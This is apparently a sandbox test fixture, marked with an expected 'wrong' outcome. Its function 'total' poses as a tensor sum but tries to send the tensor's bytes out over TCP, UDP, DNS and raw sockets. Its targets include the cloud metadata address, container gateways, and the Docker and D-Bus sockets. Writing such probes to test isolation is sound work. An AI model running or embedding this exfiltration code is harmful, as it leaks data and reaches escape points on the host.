# outcome: wrong
# Sends its inputs to the outside by every network that it can name.

# %% total
import contextlib
import socket

import torch


def total(tensor):
    secret = tensor.numpy().tobytes()
    targets = [("192.0.2.1", 80), ("169.254.169.254", 80), ("10.0.2.2", 22), ("172.17.0.1", 22), ("8.8.8.8", 53)]
    for address in targets:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind) as sock:
                sock.settimeout(0.2)
                sock.connect(address)
                sock.sendall(secret)
                raise SystemExit(f"LEAKED to {address}")
    with contextlib.suppress(OSError):
        socket.getaddrinfo("example.org", 80)
        raise SystemExit("LEAKED to a name server")
    for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
        with contextlib.suppress(OSError), socket.socket(family, kind):
            raise SystemExit("LEAKED a raw socket")
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            raise SystemExit(f"LEAKED to {path}")
    return torch.zeros(3)
